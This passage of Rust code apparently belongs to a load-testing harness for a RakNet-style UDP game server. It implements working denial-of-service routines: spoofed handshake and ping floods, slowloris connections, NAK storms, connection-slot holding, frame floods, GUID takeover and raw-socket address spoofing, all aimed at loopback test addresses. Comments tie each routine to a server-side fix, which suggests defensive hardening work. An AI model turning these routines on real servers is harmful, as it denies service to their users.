    async fn pump(&mut self, until: Instant, traffic: &Traffic, buf: &mut [u8]) -> usize {
        let mut n = 0;
        if let Ok(Ok((len, from))) =
            tokio::time::timeout_at(until.into(), self.sock.recv_from(buf)).await
        {
            if from == self.server {
                traffic.received(len);
                self.absorb(&buf[..len]);
                n += 1;
            }
        } else {
            return 0;
        }
        while let Ok((len, from)) = self.sock.try_recv_from(buf) {
            if from == self.server {
                traffic.received(len);
                self.absorb(&buf[..len]);
                n += 1;
            }
            if n > 4096 {
                break;
            }
        }
        n
    }
}

/// Send `pkt`, wait up to 500 ms for an offline reply with ID `want`; 4 attempts.
async fn offline_exchange(
    sock: &UdpSocket,
    server: SocketAddr,
    pkt: &[u8],
    want: u8,
    traffic: &Traffic,
) -> Result<Bytes, String> {
    let mut buf = vec![0u8; 2048];
    for _ in 0..4 {
        if sock.send_to(pkt, server).await.is_ok() {
            traffic.sent(pkt.len());
        }
        let until = Instant::now() + Duration::from_millis(500);
        while let Ok(Ok((n, from))) =
            tokio::time::timeout_at(until.into(), sock.recv_from(&mut buf)).await
        {
            if from != server {
                continue;
            }
            traffic.received(n);
            match buf.first() {
                Some(&b) if b == want => return Ok(Bytes::copy_from_slice(&buf[..n])),
                Some(&b)
                    if b != id::OPEN_CONNECTION_REPLY_1 && b != id::OPEN_CONNECTION_REPLY_2 =>
                {
                    return Err(format!("refused with 0x{b:02x}"));
                }
                _ => {}
            }
        }
    }
    Err(format!("no 0x{want:02x} reply"))
}

/// The handshake by hand up to the server's 0x10: OCR1, OCR2, 0x09 in datagram #0.
async fn raw_accept(
    ip: Ipv4Addr,
    server: SocketAddr,
    protocol: u8,
    mtu: u16,
    guid: u64,
    epoch: Instant,
    traffic: &Traffic,
) -> Result<(RawConn, ConnectionRequestAccepted), String> {
    let sock = Rc::new(
        UdpSocket::bind((ip, 0))
            .await
            .map_err(|e| format!("bind {ip}: {e}"))?,
    );
    hold(&sock);
    raw_accept_on(sock, server, protocol, mtu, guid, epoch, traffic).await
}

/// [`raw_accept`] from a socket of the caller's.
async fn raw_accept_on(
    sock: Rc<UdpSocket>,
    server: SocketAddr,
    protocol: u8,
    mtu: u16,
    guid: u64,
    epoch: Instant,
    traffic: &Traffic,
) -> Result<(RawConn, ConnectionRequestAccepted), String> {
    let ocr1 = encode(&OpenConnectionRequest1 { protocol, mtu });
    let mut r1 =
        offline_exchange(&sock, server, &ocr1, id::OPEN_CONNECTION_REPLY_1, traffic).await?;
    let reply1 = OpenConnectionReply1::decode(&mut r1).map_err(|e| format!("Reply1: {e}"))?;
    let ocr2 = encode(&OpenConnectionRequest2 {
        cookie: reply1.cookie,
        client_challenge: None,
        server_address: server,
        mtu: reply1.mtu,
        client_guid: guid,
    });
    offline_exchange(&sock, server, &ocr2, id::OPEN_CONNECTION_REPLY_2, traffic).await?;
    let mut c = RawConn {
        sock,
        server,
        protocol,
        guid,
        next_seq: 0,
        next_ri: 0,
        next_oi: 0,
        to_ack: Vec::new(),
        closed: false,
        last_ack: None,
        server_seqs: None,
        frame_ids: [0; 256],
    };
    let request = encode(&ConnectionRequest {
        client_guid: guid,
        time: now_ms(epoch),
        use_security: false,
        password: Bytes::new(),
    });
    let mut buf = vec![0u8; 2048];
    let mut accepted = None;
    // A resend is a new datagram carrying the same reliable message.
    let f = c.frame(Reliability::Reliable, request);
    for _ in 0..4 {
        let d = c.datagram(std::slice::from_ref(&f));
        c.send(&d, traffic).await;
        let until = Instant::now() + Duration::from_millis(500);
        while accepted.is_none() {
            let Ok(Ok((n, from))) =
                tokio::time::timeout_at(until.into(), c.sock.recv_from(&mut buf)).await
            else {
                break;
            };
            if from != server {
                continue;
            }
            traffic.received(n);
            let pkt = Bytes::copy_from_slice(&buf[..n]);
            c.absorb(&pkt);
            if let Ok(Datagram::Data { body, .. }) = Datagram::decode(pkt, false) {
                for f in Frames::new(body).flatten() {
                    if f.payload.first() == Some(&id::CONNECTION_REQUEST_ACCEPTED) {
                        let mut p = f.payload.clone();
                        accepted = ConnectionRequestAccepted::decode(&mut p).ok();
                    }
                }
            }
        }
        if accepted.is_some() {
            break;
        }
    }
    let accepted = accepted.ok_or("no 0x10")?;
    Ok((c, accepted))
}

/// Connect properly by hand: OCR1, OCR2, 0x09 in datagram #0, ACK the 0x10, 0x13.
async fn raw_connect(
    ip: Ipv4Addr,
    server: SocketAddr,
    protocol: u8,
    mtu: u16,
    guid: u64,
    epoch: Instant,
    traffic: &Traffic,
) -> Result<RawConn, String> {
    let (mut c, accepted) = raw_accept(ip, server, protocol, mtu, guid, epoch, traffic).await?;
    let mut buf = vec![0u8; 2048];
    if let Some(ack) = c.take_ack() {
        c.send(&ack, traffic).await;
    }
    let internal = if protocol >= 10 { 20 } else { 10 };
    let nic = encode(&NewIncomingConnection {
        server_address: server,
        internal_addresses: vec![addr::UNASSIGNED; internal],
        ping_time: accepted.accepted_time,
        pong_time: now_ms(epoch),
    });
    let f = c.frame(Reliability::ReliableOrdered, nic);
    for _ in 0..3 {
        let seq = c.next_seq;
        let d = c.datagram(std::slice::from_ref(&f));
        c.send(&d, traffic).await;
        let until = Instant::now() + Duration::from_millis(500);
        loop {
            let Ok(Ok((n, from))) =
                tokio::time::timeout_at(until.into(), c.sock.recv_from(&mut buf)).await
            else {
                break;
            };
            if from != server {
                continue;
            }
            traffic.received(n);
            if let Incoming::Ack(ranges) = c.absorb(&buf[..n]) {
                if ranges
                    .iter()
                    .any(|r| (r.start.get()..=r.end.get()).contains(&seq))
                {
                    return Ok(c);
                }
            }
        }
    }
    Err("0x13 never acknowledged".into())
}

// ---------------------------------------------------------------------------------------
// The attacks

struct Ctx {
    server: SocketAddr,
    epoch: Instant,
    rate: f64,
    ping_rate: f64,
    conn_rate: f64,
    sources: usize,
    slow_connections: usize,
}

/// Spoofed OCR2 (no cookie: the attacker never sees Reply1) from every source in turn.
async fn ocr2_flood(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>) -> Result<String, String> {
    let pool = bind_pool(ctx.sources, source_ip).await?;
    cookieless_ocr2s(ctx, end, traffic, &pool).await;
    Ok(format!("{} sources, blind (no cookie)", pool.len()))
}

/// Cookie-less OCR2s spoofed from the players' own IP (127.0.0.1, the fresh clients' address),
/// from many ports: a NAT that many players share, whose address the attacker knows. With
/// cookies (the server's default, every protocol) they make no handshake record; a server
/// without cookies cannot tell them from its players, and they compete with those for that
/// IP's half-open handshakes.
async fn ocr2_players_ip(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>) -> Result<String, String> {
    let pool = bind_pool(PLAYERS_IP_PORTS, |_| Ipv4Addr::LOCALHOST).await?;
    cookieless_ocr2s(ctx, end, traffic, &pool).await;
    Ok(format!(
        "{} ports of 127.0.0.1 (the players' IP), no cookie",
        pool.len()
    ))
}

/// Until `end`, at the flood rate, an OCR2 without a cookie (a GUID of its own per socket)
/// from each socket of `pool` in turn; counts the replies until the drain grace is over.
async fn cookieless_ocr2s(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>, pool: &[Rc<UdpSocket>]) {
    spawn_drains(pool, traffic, end + DRAIN_GRACE);
    let mut rng = Rng(seed());
    let pkts: Vec<Vec<u8>> = (0..pool.len())
        .map(|_| {
            encode(&OpenConnectionRequest2 {
                cookie: None,
                client_challenge: None,
                server_address: ctx.server,
                mtu: 1492,
                client_guid: rng.next(),
            })
        })
        .collect();
    let max = (ctx.rate * 600.0) as u64;
    paced(ctx.rate, end, max, |k| {
        let i = (k % pool.len() as u64) as usize;
        try_send(&pool[i], ctx.server, &pkts[i], traffic);
    })
    .await;
    sleep_until((end + DRAIN_GRACE).into()).await;
}

/// OCR1 from every source in turn: padded to MTU 1492, or the bare 18 bytes.
async fn ocr1_flood(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
    short: bool,
) -> Result<String, String> {
    let pool = bind_pool(ctx.sources, source_ip).await?;
    spawn_drains(&pool, traffic, end + DRAIN_GRACE);
    let pkt = encode(&OpenConnectionRequest1 {
        protocol: 11,
        mtu: if short { 0 } else { 1492 },
    });
    let len = pkt.len();
    let max = (ctx.rate * 600.0) as u64;
    paced(ctx.rate, end, max, |k| {
        let i = (k % pool.len() as u64) as usize;
        try_send(&pool[i], ctx.server, &pkt, traffic);
    })
    .await;
    sleep_until((end + DRAIN_GRACE).into()).await;
    Ok(format!("{} sources, {len} B OCR1", pool.len()))
}

/// Per source: OCR2, then 0x09 in datagram #0, then 0x13 in datagram #1, never reading
/// replies; then keep counting what the server reflects until the window ends.
async fn blind_handshake(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>) -> Result<String, String> {
    let pool = bind_pool(ctx.sources, source_ip).await?;
    spawn_drains(&pool, traffic, end + DRAIN_GRACE);
    let mut rng = Rng(seed());
    let server = ctx.server;
    let epoch = ctx.epoch;
    let per_source = |phase: u64, guid: u64| -> Vec<u8> {
        match phase {
            0 => encode(&OpenConnectionRequest2 {
                cookie: None,
                client_challenge: None,
                server_address: server,
                mtu: 1492,
                client_guid: guid,
            }),
            1 => {
                let mut f = Frame::new(
                    Reliability::Reliable,
                    Bytes::from(encode(&ConnectionRequest {
                        client_guid: guid,
                        time: now_ms(epoch),
                        use_security: false,
                        password: Bytes::new(),
                    })),
                );
                f.message_index = MessageIndex::new(0);
                RawConn::datagram_at(0, &[f])
            }
            _ => {
                let mut f = Frame::new(
                    Reliability::ReliableOrdered,
                    Bytes::from(encode(&NewIncomingConnection {
                        server_address: server,
                        internal_addresses: vec![addr::UNASSIGNED; 20],
                        ping_time: 0,
                        pong_time: now_ms(epoch),
                    })),
                );
                f.message_index = MessageIndex::new(1);
                RawConn::datagram_at(1, &[f])
            }
        }
    };
    let guids: Vec<u64> = (0..pool.len()).map(|_| rng.next()).collect();
    let total = pool.len() as u64 * 3;
    // Source i sends its three packets back to back: packets 3i, 3i+1, 3i+2.
    let sent = paced(ctx.rate, end, total, |k| {
        let i = (k / 3) as usize;
        let pkt = per_source(k % 3, guids[i]);
        try_send(&pool[i], server, &pkt, traffic);
    })
    .await;
    sleep_until((end + DRAIN_GRACE).into()).await;
    Ok(format!("{} handshakes, then listening", sent / 3))
}

/// Unconnected pings (25 B, the shortest accepted) from one source or from every source.
async fn ping_flood(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
    many: bool,
) -> Result<String, String> {
    let pool = if many {
        bind_pool(ctx.sources, source_ip).await?
    } else {
        bind_pool(1, |i| Ipv4Addr::new(127, 2, 0, (i % 250 + 1) as u8)).await?
    };
    spawn_drains(&pool, traffic, end + DRAIN_GRACE);
    let epoch = ctx.epoch;
    let max = (ctx.ping_rate * 600.0) as u64;
    paced(ctx.ping_rate, end, max, |k| {
        let i = (k % pool.len() as u64) as usize;
        let pkt = encode(&UnconnectedPing {
            only_if_open: false,
            time: now_ms(epoch),
            client_guid: None,
        });
        try_send(&pool[i], ctx.server, &pkt, traffic);
    })
    .await;
    sleep_until((end + DRAIN_GRACE).into()).await;
    Ok(format!("{} source(s), 25 B pings", pool.len()))
}

/// Outcome of one slowloris connection.
#[derive(Default, Clone, Copy)]
struct SlowResult {
    connected: bool,
    /// When the server sent 0x15, relative to the attack's start.
    notified: Option<Duration>,
    /// At the end, a valid datagram with a connected ping was acknowledged or answered.
    alive_at_end: bool,
}

/// Connect, then one datagram with a valid header and a garbage body every 2 s; optionally
/// never acknowledge anything the server sends. At the end, probe whether the server still
/// holds the connection.
async fn slow_conn(
    ctx: Rc<Ctx>,
    i: usize,
    start: Instant,
    end: Instant,
    ack: bool,
    traffic: Rc<Traffic>,
) -> SlowResult {
    let mut r = SlowResult::default();
    let mut rng = Rng(seed() ^ ((i as u64 + 1) << 20));
    let Ok(mut c) = raw_connect(
        Ipv4Addr::new(127, 3, (i / 250) as u8, (i % 250 + 1) as u8),
        ctx.server,
        11,
        576,
        rng.next(),
        ctx.epoch,
        &traffic,
    )
    .await
    else {
        return r;
    };
    r.connected = true;
    let mut buf = vec![0u8; 2048];
    let mut next = Instant::now();
    while Instant::now() < end && !c.closed {
        if Instant::now() >= next {
            let mut d = encode(&DataHeader::new(DatagramSeq::new(c.next_seq)));
            c.next_seq += 1;
            for _ in 0..4 {
                d.extend_from_slice(&rng.next().to_be_bytes());
            }
            c.send(&d, &traffic).await;
            next += SLOW_INTERVAL;
        }
        c.pump(next.min(end), &traffic, &mut buf).await;
        if ack {
            if let Some(a) = c.take_ack() {
                c.send(&a, &traffic).await;
            }
        } else {
            c.to_ack.clear();
        }
    }
    if c.closed {
        r.notified = Some(start.elapsed());
        return r;
    }
    // Liveness: a valid datagram with a connected ping; alive if the server ACKs or pongs.
    let mut ping = vec![id::CONNECTED_PING];
    ping.extend_from_slice(&now_ms(ctx.epoch).to_be_bytes());
    let f = c.frame(Reliability::Unreliable, ping);
    let d = c.datagram(&[f]);
    let pongs = c.frame_ids[usize::from(id::CONNECTED_PONG)];
    c.send(&d, &traffic).await;
    let until = Instant::now() + Duration::from_secs(1);
    let sent_at = Instant::now();
    while Instant::now() < until && !r.alive_at_end && !c.closed {
        c.pump(until, &traffic, &mut buf).await;
        r.alive_at_end = c.frame_ids[usize::from(id::CONNECTED_PONG)] > pongs
            || c.last_ack.is_some_and(|t| t >= sent_at);
    }
    if c.closed {
        r.notified = Some(start.elapsed());
    }
    r
}

async fn slowloris(
    ctx: &Rc<Ctx>,
    end: Instant,
    traffic: &Rc<Traffic>,
    ack: bool,
) -> Result<String, String> {
    let start = Instant::now();
    let mut handles = Vec::new();
    for i in 0..ctx.slow_connections {
        handles.push(tokio::task::spawn_local(slow_conn(
            ctx.clone(),
            i,
            start,
            end,
            ack,
            traffic.clone(),
        )));
        // Spread the handshakes a little.
        if i % 20 == 19 {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }
    let mut results = Vec::new();
    for h in handles {
        results.push(h.await.unwrap_or_default());
    }
    let connected = results.iter().filter(|r| r.connected).count();
    let mut notified: Vec<Duration> = results.iter().filter_map(|r| r.notified).collect();
    notified.sort_unstable();
    let alive = results.iter().filter(|r| r.alive_at_end).count();
    let dead = connected - notified.len() - alive;
    Ok(format!(
        "{connected}/{} connected ({}); after {:.0} s: {} closed by 0x15{}, {dead} dropped silently, {alive} still open",
        results.len(),
        if ack { "ACKing" } else { "never ACKing" },
        (end - start).as_secs_f64(),
        notified.len(),
        notified
            .first()
            .map_or(String::new(), |t| format!(" (first at {:.1} s)", t.as_secs_f64())),
    ))
}

/// Our own connection: have the server echo a few large messages, never acknowledge them,
/// and NAK the server's whole datagram range at `conn_rate`.
async fn nak_attack(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>) -> Result<String, String> {
    let mut rng = Rng(seed());
    let mut c = raw_connect(
        Ipv4Addr::new(127, 4, 0, 1),
        ctx.server,
        11,
        1492,
        rng.next(),
        ctx.epoch,
        traffic,
    )
    .await?;
    for k in 0..NAK_BAIT_COUNT {
        let mut payload = vec![ECHO_ID];
        payload.extend_from_slice(&(k as u64).to_be_bytes());
        payload.resize(NAK_BAIT_SIZE, 0xab);
        let f = c.frame(Reliability::ReliableOrdered, payload);
        let d = c.datagram(&[f]);
        c.send(&d, traffic).await;
    }
    let mut buf = vec![0u8; 2048];
    // Let the echoes arrive (and ACK none of them: what the server holds stays in flight).
    let settle = Instant::now() + Duration::from_millis(300);
    while Instant::now() < settle {
        c.pump(settle, traffic, &mut buf).await;
    }
    c.to_ack.clear();
    let mut naks = 0u64;
    let start = Instant::now();
    while Instant::now() < end {
        let due = due(start, Instant::now(), ctx.conn_rate, 1_000_000);
        while naks < due {
            let (lo, hi) = c.server_seqs.unwrap_or((0, 0));
            let nak = encode(&Nak {
                ranges: vec![AckRange {
                    start: DatagramSeq::new(lo),
                    end: DatagramSeq::new(hi.max(lo)),
                }],
            });
            c.send(&nak, traffic).await;
            naks += 1;
        }
        c.pump(Instant::now() + Duration::from_millis(1), traffic, &mut buf)
            .await;
        c.to_ack.clear();
    }
    let drain_end = Instant::now() + DRAIN_GRACE;
    while Instant::now() < drain_end {
        c.pump(drain_end, traffic, &mut buf).await;
    }
    let (lo, hi) = c.server_seqs.unwrap_or((0, 0));
    Ok(format!(
        "{naks} NAKs of server datagrams #{lo}..#{hi}; {NAK_BAIT_COUNT} echoes of {NAK_BAIT_SIZE} B never ACKed came {} times{}",
        c.frame_ids[usize::from(ECHO_ID)],
        if c.closed { "; server closed it" } else { "" }
    ))
}

/// Our own connection: every datagram jumps [`FAR_AHEAD_GAP`] numbers ahead (carrying a
/// connected ping); then check the connection still echoes.
async fn far_ahead(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>) -> Result<String, String> {
    let mut rng = Rng(seed());
    let mut c = raw_connect(
        Ipv4Addr::new(127, 4, 0, 2),
        ctx.server,
        11,
        1492,
        rng.next(),
        ctx.epoch,
        traffic,
    )
    .await?;
    let mut buf = vec![0u8; 2048];
    let start = Instant::now();
    let mut sent = 0u64;
    while Instant::now() < end && !c.closed {
        let due = due(start, Instant::now(), ctx.conn_rate, 1_000_000);
        while sent < due {
            c.next_seq = (c.next_seq + FAR_AHEAD_GAP) & 0xff_ffff;
            let mut ping = vec![id::CONNECTED_PING];
            ping.extend_from_slice(&now_ms(ctx.epoch).to_be_bytes());
            let f = c.frame(Reliability::Unreliable, ping);
            let d = c.datagram(&[f]);
            c.next_seq &= 0xff_ffff;
            c.send(&d, traffic).await;
            sent += 1;
        }
        c.pump(Instant::now() + Duration::from_millis(1), traffic, &mut buf)
            .await;
        if let Some(a) = c.take_ack() {
            c.send(&a, traffic).await;
        }
    }
    let pongs = c.frame_ids[usize::from(id::CONNECTED_PONG)];
    // Does the connection still work? One echo, in the next datagram number.
    let mut payload = vec![ECHO_ID];
    payload.extend_from_slice(&u64::MAX.to_be_bytes());
    let f = c.frame(Reliability::ReliableOrdered, payload);
    let d = c.datagram(&[f]);
    c.send(&d, traffic).await;
    let before = c.frame_ids[usize::from(ECHO_ID)];
    let until = Instant::now() + Duration::from_secs(1);
    while Instant::now() < until && c.frame_ids[usize::from(ECHO_ID)] == before {
        c.pump(until, traffic, &mut buf).await;
        if let Some(a) = c.take_ack() {
            c.send(&a, traffic).await;
        }
    }
    let alive = c.frame_ids[usize::from(ECHO_ID)] > before;
    Ok(format!(
        "{sent} datagrams +{FAR_AHEAD_GAP} apart, {pongs} pongs; {}",
        if c.closed {
            "server closed it"
        } else if alive {
            "connection still echoes"
        } else {
            "connection no longer echoes"
        }
    ))
}

/// Our own connection: send 0x09 again and again (each may be answered with a 0x10).
async fn repeat_09(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>) -> Result<String, String> {
    let mut rng = Rng(seed());
    let guid = rng.next();
    let mut c = raw_connect(
        Ipv4Addr::new(127, 4, 0, 3),
        ctx.server,
        11,
        1492,
        guid,
        ctx.epoch,
        traffic,
    )
    .await?;
    let base_10 = c.frame_ids[usize::from(id::CONNECTION_REQUEST_ACCEPTED)];
    let mut buf = vec![0u8; 2048];
    let start = Instant::now();
    let mut sent = 0u64;
    while Instant::now() < end && !c.closed {
        let due = due(start, Instant::now(), ctx.conn_rate, 1_000_000);
        while sent < due {
            let req = encode(&ConnectionRequest {
                client_guid: c.guid,
                time: now_ms(ctx.epoch),
                use_security: false,
                password: Bytes::new(),
            });
            let f = c.frame(Reliability::Reliable, req);
            let d = c.datagram(&[f]);
            c.send(&d, traffic).await;
            sent += 1;
        }
        c.pump(Instant::now() + Duration::from_millis(1), traffic, &mut buf)
            .await;
        if let Some(a) = c.take_ack() {
            c.send(&a, traffic).await;
        }
    }
    let drain_end = Instant::now() + DRAIN_GRACE;
    while Instant::now() < drain_end {
        c.pump(drain_end, traffic, &mut buf).await;
    }
    let got = c.frame_ids[usize::from(id::CONNECTION_REQUEST_ACCEPTED)] - base_10;
    Ok(format!(
        "{sent} x 0x09 (protocol {}), {got} x 0x10 back{}",
        c.protocol,
        if c.closed { "; server closed it" } else { "" }
    ))
}

/// From one address, [`GAP_HOLD_CONNS`] connections each pile one-byte reliable-ordered
/// messages behind ordering index 0 of all 32 channels, which never comes: every message is
/// held for ordering, counted at 129 bytes. Before fair shares this took the whole receive
/// budget, and no player's split message got through.
async fn gap_hold(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>) -> Result<String, String> {
    let mut rng = Rng(seed());
    let ip = Ipv4Addr::new(127, 4, 0, 6);
    let mut conns = Vec::new();
    let mut refusals = 0u32;
    // The per-address connection rate lets 20 through at once, then 20 a second.
    while conns.len() < GAP_HOLD_CONNS && Instant::now() < end {
        match raw_connect(ip, ctx.server, 11, 1492, rng.next(), ctx.epoch, traffic).await {
            Ok(c) => conns.push((c, [1u32; 32])),
            Err(_) => {
                refusals += 1;
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
    }
    if conns.is_empty() {
        return Err(format!("no connection from {ip} ({refusals} refused)"));
    }
    let mut buf = vec![0u8; 2048];
    let start = Instant::now();
    let mut sent = 0u64;
    let mut frames_sent = 0u64;
    while Instant::now() < end {
        let due = due(start, Instant::now(), ctx.rate / 4.0, 10_000_000);
        let n = conns.len();
        while sent < due {
            let (c, order) = &mut conns[sent as usize % n];
            if !c.closed {
                let frames: Vec<Frame> = (0..GAP_HOLD_FRAMES)
                    .map(|i| {
                        let channel = (sent as usize + i) % 32;
                        let mut f =
                            Frame::new(Reliability::ReliableOrdered, Bytes::from_static(&[0x86]));
                        f.message_index = MessageIndex::new(c.next_ri & 0xff_ffff);
                        c.next_ri += 1;
                        f.order_index = OrderIndex::new(order[channel] & 0xff_ffff);
                        f.order_channel = channel as u8;
                        order[channel] += 1;
                        f
                    })
                    .collect();
                let d = c.datagram(&frames);
                c.send(&d, traffic).await;
                frames_sent += GAP_HOLD_FRAMES as u64;
            }
            sent += 1;
        }
        // Answer the server's pings and data, as a live peer does.
        for (c, _) in &mut conns {
            c.pump(Instant::now(), traffic, &mut buf).await;
            if let Some(a) = c.take_ack() {
                c.send(&a, traffic).await;
            }
        }
        tokio::task::yield_now().await;
    }
    let now = Instant::now();
    let deaf = conns
        .iter()
        .filter(|(c, _)| c.last_ack.is_none_or(|t| now - t > Duration::from_secs(2)))
        .count();
    Ok(format!(
        "{} connections from {ip} ({refusals} refused at first), {frames_sent} one-byte \
         messages behind never-filled gaps; {deaf} no longer acknowledged at the end",
        conns.len()
    ))
}

/// From [`SLOT_HOLD_ADDRS`] addresses, handshakes that stop once the server answered their
/// 0x09 with 0x10 ("accepted"), never sending 0x13, started again and again: with a cookie
/// each such handshake reserved a connection slot for the handshake timeout, and 17
/// addresses held all 1,024 slots. Now reservations are capped and lapse 2 s after the 0x10.
async fn slot_hold(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>) -> Result<String, String> {
    let pool = bind_pool(SLOT_HOLD_ADDRS * SLOT_HOLD_PORTS, |i| {
        Ipv4Addr::new(127, 4, 2, 1 + (i / SLOT_HOLD_PORTS) as u8)
    })
    .await?;
    let counts = Rc::new(Cell::new((0u32, 0u32, 0u32)));
    // One task per address, each going round its ports: a handshake stopped at 0x10 from
    // each, again and again.
    let tasks: Vec<_> = pool
        .chunks(SLOT_HOLD_PORTS)
        .enumerate()
        .map(|(a, socks)| {
            let socks = socks.to_vec();
            let (counts, traffic) = (counts.clone(), traffic.clone());
            let (server, epoch) = (ctx.server, ctx.epoch);
            tokio::task::spawn_local(async move {
                let mut rng = Rng(seed() ^ a as u64);
                for sock in socks.iter().cycle() {
                    if Instant::now() >= end {
                        break;
                    }
                    let r =
                        raw_accept_on(sock.clone(), server, 11, 1492, rng.next(), epoch, &traffic);
                    let (mut ok, mut refused, mut failed) = counts.get();
                    match tokio::time::timeout_at(end.into(), r).await {
                        Ok(Ok(_)) => ok += 1,
                        Ok(Err(e)) if e.starts_with("refused") => refused += 1,
                        Ok(Err(_)) => failed += 1,
                        Err(_) => break,
                    }
                    counts.set((ok, refused, failed));
                }
            })
        })
        .collect();
    for t in tasks {
        let _ = t.await;
    }
    let (accepted, refused, failed) = counts.get();
    Ok(format!(
        "{} handshakes from {} ports of {SLOT_HOLD_ADDRS} addresses stopped at 0x10: \
         {accepted} accepted, {refused} refused, {failed} unanswered",
        accepted + refused + failed,
        pool.len()
    ))
}

/// One real connection sends datagrams full of 4-byte reliable-ordered messages: 365 handler
/// calls per datagram, which without a message rate took every handler's time. The server
/// closes it once it goes over `:max_messages_per_sec` (1,000 a second by default).
async fn frame_flood(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>) -> Result<String, String> {
    let mut rng = Rng(seed());
    let mut c = raw_connect(
        Ipv4Addr::new(127, 4, 0, 9),
        ctx.server,
        11,
        1492,
        rng.next(),
        ctx.epoch,
        traffic,
    )
    .await?;
    let mut buf = vec![0u8; 2048];
    let start = Instant::now();
    let (mut sent, mut messages) = (0u64, 0u64);
    while Instant::now() < end && !c.closed {
        let due = due(start, Instant::now(), ctx.conn_rate, 1_000_000);
        while sent < due {
            let frames: Vec<Frame> = (0..FRAME_FLOOD_FRAMES)
                .map(|_| c.frame(Reliability::ReliableOrdered, vec![ECHO_ID, 0, 0, 0]))
                .collect();
            let d = c.datagram(&frames);
            c.send(&d, traffic).await;
            sent += 1;
            messages += FRAME_FLOOD_FRAMES as u64;
        }
        c.pump(Instant::now() + Duration::from_millis(1), traffic, &mut buf)
            .await;
        if let Some(a) = c.take_ack() {
            c.send(&a, traffic).await;
        }
    }
    let echoed = c.frame_ids[usize::from(ECHO_ID)];
    Ok(format!(
        "{sent} datagrams of {FRAME_FLOOD_FRAMES} 4-byte messages ({messages}), {echoed} echoed; {}",
        if c.closed {
            "server closed it"
        } else {
            "still open"
        }
    ))
}

/// A connection that has the echo server queue a lot for it (1 KB messages, 200 a second,
/// echoed back), then reads nothing: it acknowledges only the newest datagram every 8 s,
/// enough for the idle and acknowledgement timers. It held its 64 MiB send budget for ever;
/// now, over its share of the socket's budget and acknowledging less than an eighth of its
/// backlog in a timeout, it is closed.
async fn slow_reader(ctx: &Ctx, end: Instant, traffic: &Rc<Traffic>) -> Result<String, String> {
    let mut rng = Rng(seed());
    let mut c = raw_connect(
        Ipv4Addr::new(127, 4, 0, 10),
        ctx.server,
        11,
        1492,
        rng.next(),
        ctx.epoch,
        traffic,
    )
    .await?;
    let mut buf = vec![0u8; 2048];
    let start = Instant::now();
    let mut last_ack = start;
    let mut sent = 0u64;
    while Instant::now() < end && !c.closed {
        let due = due(start, Instant::now(), 200.0, 1_000_000);
        while sent < due {
            let mut payload = vec![ECHO_ID];
            payload.resize(1_000, 0x55);
            let f = c.frame(Reliability::ReliableOrdered, payload);
            let d = c.datagram(&[f]);
            c.send(&d, traffic).await;
            sent += 1;
        }
        c.pump(Instant::now() + Duration::from_millis(5), traffic, &mut buf)
            .await;
        // Acknowledge nothing but the newest datagram, every 8 s.
        if Instant::now() >= last_ack + Duration::from_secs(8) {
            if let Some((_, hi)) = c.server_seqs {
                let ack = encode(&Ack {
                    timestamp: None,
                    arrival_rate: None,
                    ranges: vec![AckRange::single(DatagramSeq::new(hi))],
                });
                c.send(&ack, traffic).await;
            }
            last_ack = Instant::now();
        }
        c.to_ack.clear();
        // The server acknowledges what we send while the connection lives (200 a second):
        // a second without an acknowledgement is a closed connection.
        if c.last_ack
            .is_some_and(|t| t.elapsed() > Duration::from_secs(1))
        {
            break;
        }
    }
    let closed = c.closed
        || c.last_ack
            .is_some_and(|t| t.elapsed() > Duration::from_secs(1));
    Ok(format!(
        "{sent} x 1 KB sent to be echoed, newest datagram acknowledged every 8 s; {}",
        if closed {
            format!(
                "server closed it after {:.1} s",
                start.elapsed().as_secs_f64()
            )
        } else {
            "still open".into()
        }
    ))
}

/// A second client, from another address, presents the long-lived client's GUID again and
/// again: the server must answer 0x12 (already connected) and leave the player alone.
async fn guid_takeover(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
    log: &SharedLog,
) -> Result<String, String> {
    let Some(guid) = with_log(log, |l| l.steady_guid) else {
        return Err("the long-lived client never connected".into());
    };
    let (mut taken, mut refused, mut other) = (0u32, 0u32, 0u32);
    let mut port_ip = 0u8;
    while Instant::now() < end {
        port_ip = port_ip.wrapping_add(1).max(1);
        let ip = Ipv4Addr::new(127, 4, 1, port_ip);
        match raw_connect(ip, ctx.server, 11, 1492, guid, ctx.epoch, traffic).await {
            Ok(_) => taken += 1,
            Err(e) if e.contains("0x12") => refused += 1,
            Err(_) => other += 1,
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Ok(format!(
        "player's GUID presented {} times from other addresses: {refused} told 0x12, \
         {other} other refusals, {taken} {}",
        taken + refused + other,
        if taken == 0 { "taken" } else { "TAKEN" }
    ))
}

/// Datagrams forged from the long-lived player's exact address and port by a forger who
/// knows none of its counters: an unreliable 0x15, or an unreliable echo request the server
/// would answer to the player, each in a blind pair of datagrams numbered S and S + 2^23 (one
/// of which is always "ahead" of the server's window); and an ACK and a NAK of every number
/// (which, if taken, would stop the server resending what the player lost: it drops one in
/// [`SPOOF_DROP_EVERY`] of the server's datagrams meanwhile).
async fn spoof(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
    log: &SharedLog,
) -> Result<String, String> {
    let Some(SocketAddr::V4(player)) = with_log(log, |l| l.steady_addr) else {
        return Err("the long-lived client never connected".into());
    };
    let SocketAddr::V4(server) = ctx.server else {
        return Err("IPv4 only".into());
    };
    let forger = raw::Forger::open().map_err(|e| {
        format!("no raw socket (forging a source address needs root or CAP_NET_RAW): {e}")
    })?;
    // The forger works: a ping forged from a socket of ours is answered to that socket.
    let witness = UdpSocket::bind("127.0.0.1:0")
        .await
        .map_err(|e| format!("bind: {e}"))?;
    let Ok(SocketAddr::V4(witness_addr)) = witness.local_addr() else {
        return Err("no local address".into());
